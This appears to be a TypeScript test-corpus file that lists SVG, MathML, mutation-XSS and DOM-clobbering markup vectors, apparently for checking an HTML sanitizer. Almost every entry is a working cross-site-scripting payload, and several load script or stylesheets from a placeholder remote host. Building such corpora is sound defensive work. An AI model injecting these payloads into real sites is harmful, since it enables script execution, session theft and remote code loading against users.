import { vectors, type Vector } from './vector.ts';

const SVG = [
  '<svg onload={run}>', '<svg/onload={run}>', '<svg><script>{run}</script></svg>', '<svg><script href=https://{host}/a.js></script></svg>', '<svg><script xlink:href=data:,{run}></script></svg>', '<svg><script>&#97;lert&#40;1&#41;;{run}</script></svg>',
  '<svg><animate onbegin={run} attributeName=x dur=1s></svg>', '<svg><set onbegin={run} attributeName=x to=1 /></svg>', '<svg><animate onend={run} attributeName=x dur=1ms /></svg>', '<svg><animateTransform onbegin={run} attributeName=transform dur=1s /></svg>',
  '<svg><a xlink:href="javascript:{run}"><text x=9 y=9>press</text></a></svg>', '<svg><a href="javascript:{run}"><circle r=99 /></a></svg>', '<svg><a id=q><animate attributeName=href values=javascript:{run} /><text x=9 y=9>x</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:{run} /><text x=9 y=9>x</text></a></svg>', '<svg><animate xlink:href=#q attributeName=href from=javascript:{run} to=1 /><a id=q><text x=9 y=9>x</text></a></svg>', '<svg><set attributeName=onclick to={run} /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:{run}><rect width=99 height=99 /></a></svg>#x"/></svg>', '<svg><use href="https://{host}/s.svg#x"/></svg>', '<svg><use xlink:href=//{host}/s.svg#x></use></svg>',
  '<svg><image href="https://{host}/i.png"/></svg>', '<svg><image xlink:href="https://{host}/x.png" onload={run} /></svg>', '<svg><feImage href="https://{host}/f.png"/></svg>', '<svg><filter id=f><feImage xlink:href=//{host}/f /></filter><rect filter=url(#f) width=9 height=9 /></svg>',
  '<svg><foreignObject><iframe src=https://{host}/f></iframe></foreignObject></svg>', '<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>', '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload={run}></body></foreignObject></svg>',
  '<svg><style>@import url(https://{host}/s.css);</style></svg>', '<svg><style>rect{fill:url(https://{host}/p)}</style><rect width=9 height=9 /></svg>', '<svg><rect fill="url(https://{host}/g#a)" width=9 height=9 /></svg>', '<svg><rect style="mask:url(https://{host}/m#a)" width=9 height=9 /></svg>',
  '<svg><linearGradient id=g xlink:href="https://{host}/g#a"/></svg>', '<svg><text><textPath href="https://{host}/t#a">x</textPath></text></svg>', '<svg><mpath xlink:href=https://{host}/m#a /></svg>', '<svg><cursor xlink:href=https://{host}/c /></svg>', '<svg><tref xlink:href=https://{host}/t#a /></svg>',
  '<svg><handler type="text/javascript" ev:event="load">{run}</handler></svg>', '<svg><discard onbegin={run} /></svg>', '<svg><desc><img src=x onerror={run}></desc></svg>', '<svg><title><img src=x onerror={run}></title></svg>', '<svg><metadata><script>{run}</script></metadata></svg>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e "<script>{run}</script>">]><svg>&e;</svg>', '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{run}</x:script></svg>', '<svg><x><script>{run}</script></x></svg>', '<svg><video src=https://{host}/v></video></svg>', '<svg><br><img src=x onerror={run}></svg>',
];

const MATH = [
  '<math href="javascript:{run}">press</math>', '<math><mi xlink:href="javascript:{run}">x</mi></math>', '<math><maction actiontype="statusline#" xlink:href="javascript:{run}">x</maction></math>', '<math><mtext><img src=x onerror={run}></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>', '<math><annotation-xml encoding="application/xhtml+xml"><script>{run}</script></annotation-xml></math>', '<math><semantics><annotation-xml encoding=text/html><iframe src=//{host}></iframe></annotation-xml></semantics></math>',
  '<math><mglyph src=https://{host}/g.png></math>', '<math altimg=https://{host}/m.png>x</math>', '<math><mstyle background="url(https://{host}/b)">x</mstyle></math>', '<math><mi style="background:url(https://{host}/b)">x</mi></math>', '<math><script>{run}</script></math>', '<math onmouseover={run}><mi>x</mi></math>',
];

/** Text that parses differently when it is parsed again, or that changes how the parser reads markup. */
const MUTATION = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;"></style></mglyph></table></mtext></math>', '<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}></style></mglyph></form></mtext></math>', '<svg></p><style><a title="</style><img src=x onerror={run}>"></style></svg>', '<svg><p><style><g title="</style><img src=x onerror={run}>"></style></p></svg>',
  '<math><style><img title="</style><img src=x onerror={run}>"></style></math>', '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>', '<noscript><style></noscript><img src=x onerror={run}></style>', '<xmp><p title="</xmp><img src=x onerror={run}>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror={run}>"></noembed>', '<noframes><p title="</noframes><img src=x onerror={run}>"></noframes>', '<iframe><p title="</iframe><img src=x onerror={run}>"></iframe>', '<title><p title="</title><img src=x onerror={run}>"></title>',
  '<textarea><p title="</textarea><img src=x onerror={run}>"></textarea>', '<style><p title="</style><img src=x onerror={run}>"></style>', '<script><p title="</script><img src=x onerror={run}>"></script>', '<template><p title="</template><img src=x onerror={run}>"></template>', '<plaintext><img src=x onerror={run}>',
  '</textarea><img src=x onerror={run}>', '</title><img src=x onerror={run}>', '</style><img src=x onerror={run}>', '</template><img src=x onerror={run}>', '</noscript><img src=x onerror={run}>', '--><img src=x onerror={run}>', ']]><img src=x onerror={run}>', '</div></div></div></main><img src=x onerror={run}>',
  '<!--><img src=x onerror={run}>-->', '<!---><img src=x onerror={run}>-->', '<!-- --!><img src=x onerror={run}> -->', '<!-<img src=x onerror={run}>->', '<![CDATA[><img src=x onerror={run}>]]>', '<svg><![CDATA[</svg><img src=x onerror={run}>]]></svg>', '<? x="?><img src=x onerror={run}>">', '</ x="><img src=x onerror={run}>">',
  '<select><template><img src=x onerror={run}></template></select>', '<select><style></select><img src=x onerror={run}></style>', '<table><tr><td><math><mtext></td></tr></table><img src=x onerror={run}>', '<table><img src=x onerror={run}><tr></table>', '<option><select><img src=x onerror={run}>', '<a><table><a href="javascript:{run}">x</table>',
  '<b><p><b><p><b><p><img src=x onerror={run}>', '<p id="</p><img src=x onerror={run}>">', '<a title="`<img src=x onerror={run}>`">x</a>', "<a title='\"><img src=x onerror={run}>'>x</a>", '<img alt="<x" title="/><img src=x onerror={run}>">', '<img """><script>{run}</script>">', '<a"b=\'c\'><img src=x onerror={run}>',
  '<div><template shadowrootmode=open><img src=x onerror={run}></template></div>', '<div><template shadowrootmode=closed><script>{run}</script></template></div>', '<div><template shadowrootmode=open><style>@import "https://{host}/sh.css"</style></template></div>', '<template><script>{run}</script></template>', '<slot name=x><img src=x onerror={run}></slot>',
  '<button is="x-y" onfocus={run} autofocus>x</button>', '<x-y><img src=x onerror={run}></x-y>', '<h1><svg><h1><style><a id="</style><img src=x onerror={run}>">', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={run}>">', '<font color=x><svg><font color=x><style><b title="</style><img src=x onerror={run}>">',
];

const CLOBBER = [
  '<a id=latent name=latent href=javascript:{run}>x</a>', '<form id=document><input name=cookie></form>', '<img name=getElementById><img name=createElement>', '<form id=body><input name=attributes><input name=childNodes><img src=x onerror={run}></form>', '<form><input name=attributes><input name=parentNode><img src=x onerror={run}></form>',
  '<form><input name=nodeName><svg onload={run}></form>', '<a id=config><a id=config name=url href="https://{host}/c">x</a>', '<iframe name=latent srcdoc="<a id=version href=x>"></iframe>', '<form id=x><output id=y>clobbered</output></form>', '<div id=app><img src=x onerror={run}></div>', '<p id=__proto__>x</p><p name=constructor>x</p>',
  '<form name=currentScript><input name=src value=https://{host}/a.js></form>', '<embed name=alert>', '<object id=DOMPurify></object>', '<object id=trustedTypes><img src=x onerror={run}></object>', '<a id=navigator></a><a id=navigator name=serviceWorker href="https://{host}/sw">x</a>', '<base id=baseURI href=//{host}/>',
];

export const FOREIGN_VECTORS: readonly Vector[] = [
  ...vectors('svg', 'SVG', SVG),
  ...vectors('math', 'MathML', MATH),
  ...vectors('mutation', 'markup that is read differently the second time, or that breaks out of an element', MUTATION),
  ...vectors('clobber', 'ids and names that stand before properties of the document', CLOBBER),
];
